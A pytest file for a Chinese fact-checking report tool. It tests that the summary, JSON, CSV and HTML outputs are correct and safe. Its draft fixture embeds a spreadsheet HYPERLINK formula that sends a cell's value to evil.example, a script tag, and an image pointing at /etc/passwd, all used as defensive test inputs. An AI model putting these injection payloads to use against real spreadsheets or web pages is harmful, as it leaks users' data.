"""A checked draft for the editor: summary, JSON, CSV that cannot attack a spreadsheet,
a printable page that escapes everything and loads nothing."""

from __future__ import annotations

import csv
import json
from html.parser import HTMLParser

import pytest

from index.checking import check
from index.checking.report import as_dict, html_page, summary_text, write_csv, write_html
from index.institutions import institutions

DRAFT = ("市二院去年派出237人到国内知名医疗机构进修。"
         "=HYPERLINK(\"http://evil.example/\"&A1)今年火星上发现了大量的恐龙化石。\n"
         "<script>alert(1)</script><img src=\"file:///etc/passwd\">火星基地招募了大量的工程师。")


@pytest.fixture(scope="module")
def checked(seed_engine):
    return check(seed_engine, DRAFT, institutions())


def test_summary_line(checked):
    assert summary_text(checked) == "共核对 3 句：有出处 0 句，数字不同 1 句，未找到出处 2 句。"


def test_json_has_every_statement_with_its_items_sources_and_citation(checked):
    data = json.loads(json.dumps(as_dict(checked), ensure_ascii=False))
    assert data["summary"] == {"checked": 3, "supported": 0, "differs": 1, "unsupported": 2}
    first = data["statements"][0]
    assert first["verdict"] == "differs"
    assert DRAFT[first["start"]:first["end"]] == first["text"]
    (figure,) = [i for i in first["items"] if i["kind"] == "figure"]
    assert figure["value"] == ["237"] and figure["unit"] == "人"
    source = first["sources"][0]
    assert {"item": "237人", "kind": "figure", "verdict": "different", "found": "227人"} \
        .items() <= next(c for c in source["checks"] if c["kind"] == "figure").items()
    assert source["citation"].endswith(f"第 {source['paragraph']} 段（{source['report']}）")


def test_csv_cells_cannot_start_a_formula(checked, tmp_path):
    path = tmp_path / "check.csv"
    rows = write_csv(path, checked)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        table = list(csv.reader(handle))
    assert len(table) == rows + 1 and table[0][:3] == ["statement", "text", "verdict"]
    assert any(r[2] == "differs" and r[4] == "237人" and r[6] == "227人" for r in table[1:])
    texts = [r[1] for r in table[1:]]
    assert any(t.startswith("'=HYPERLINK") for t in texts)
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in table[1:] for cell in r)


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attrs)


def test_the_page_escapes_everything_and_loads_nothing(checked, tmp_path):
    page = html_page(checked)
    parsed = _Tags()
    parsed.feed(page)
    # Only the page's own structure: no script, image, link, frame; no address anywhere.
    assert parsed.tags <= {"html", "head", "meta", "title", "style", "body", "h1", "p", "div",
                           "span", "table", "tr", "td", "mark"}
    assert parsed.attributes <= {"lang", "charset", "class"}
    assert "&lt;script&gt;" in page and "&lt;img src=" in page
    assert "url(" not in page and "@import" not in page
    assert "不同（报告中为 227人）" in page
    assert "000_bd9af7df280a18e9.txt" in page  # the citation
    path = tmp_path / "check.html"
    write_html(path, checked)
    assert path.read_text(encoding="utf-8") == page
